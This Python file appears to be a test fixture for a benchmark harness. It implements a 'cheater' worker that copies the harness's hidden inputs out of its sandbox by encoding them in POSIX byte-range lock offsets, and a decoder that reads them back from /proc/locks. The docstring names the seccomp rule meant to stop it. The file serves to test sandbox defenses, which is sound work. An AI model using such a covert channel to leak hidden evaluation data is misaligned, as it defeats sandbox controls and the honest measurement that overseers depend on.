"""Cheater: copies every input it is handed (the benchmark input and the pool's, which the harness
keeps hidden) out to the host through POSIX byte-range locks. A lock's range is any 64-bit start
and length the worker chooses, on any file it can open (here one in its own /tmp), and the
host's /proc/locks lists every lock of every process, whatever its namespaces, with that range
in decimal: any process of the host, the agent's shell among them, reads it while the worker
lives. Each lock carries 32 bits of an input in its start, with the input's number and the
part's number above them (ranges far apart, so the kernel never merges two); a lock of length
1 at MAGIC + 2n says input n is complete. It leaks the first CHEAT_LEAK_INPUTS inputs (each
costs a lock a word, and the kernel keeps a process's locks in one list). Its outputs are honest.

Would be stopped by: no byte-range locks in the worker (fcntl F_SETLK, F_SETLKW, F_OFD_SETLK
and F_OFD_SETLKW refused by the seccomp filter; flock(2), which Python's filelock and torch's
caches use, takes no range). The test reads /proc/locks while the worker is alive and compares
what it decodes with the hidden inputs."""

import fcntl
import os
import struct

from _target import honest

MAGIC = 0x0A0715C0 << 32   # the start of the "input complete" locks, far above every data lock
SHIFT_INPUT, SHIFT_PART = 52, 34


def build_decoder(model, example):
    fd = os.open(f"/tmp/cheat-locks-{os.getpid()}", os.O_RDWR | os.O_CREAT, 0o600)
    most = int(os.environ.get("CHEAT_LEAK_INPUTS", "1000"))
    count = [0]

    def lock(start: int, length: int) -> None:
        fcntl.fcntl(fd, fcntl.F_SETLK, struct.pack("hhqqi", fcntl.F_RDLCK, os.SEEK_SET, start, length, 0))

    def leak(x) -> None:
        data = x.detach().cpu().contiguous().numpy().tobytes()
        data += b"\0" * (-len(data) % 4)
        n, count[0] = count[0], count[0] + 1
        for part in range(len(data) // 4):
            word = int.from_bytes(data[4 * part:4 * part + 4], "little")
            lock((n << SHIFT_INPUT) | (part << SHIFT_PART) | (word << 1), 1)
        lock(MAGIC + 2 * n, 1)

    def forward(x):
        try:
            if count[0] < most:
                leak(x)
        except OSError:
            pass  # refused: the call stays honest either way
        return honest(model, x)

    try:
        lock(MAGIC - 2, 1)
        tried = "ok"
    except OSError as e:
        tried = os.strerror(e.errno)
    return forward, {"cheat": "inputs out through byte-range locks", "F_SETLK": tried}


def decode(proc_locks: str, nbytes: int) -> list[bytes]:
    """The inputs a host process reads back from /proc/locks (the test's side)."""
    done, words = set(), {}
    for line in proc_locks.splitlines():
        f = line.split()
        if len(f) < 8 or f[1] != "POSIX":
            continue
        try:
            start = int(f[-2])
        except ValueError:
            continue
        if MAGIC <= start < MAGIC + (1 << 30):
            done.add((start - MAGIC) // 2)
        elif start < MAGIC - 2:
            n, part, word = start >> SHIFT_INPUT, (start >> SHIFT_PART) & ((1 << 18) - 1), (start >> 1) & 0xFFFFFFFF
            words.setdefault(n, {})[part] = word
    out = []
    for n in sorted(done):
        parts = words.get(n, {})
        need = -(-nbytes // 4)
        if all(k in parts for k in range(need)):
            out.append(b"".join(parts[k].to_bytes(4, "little") for k in range(need))[:nbytes])
    return out
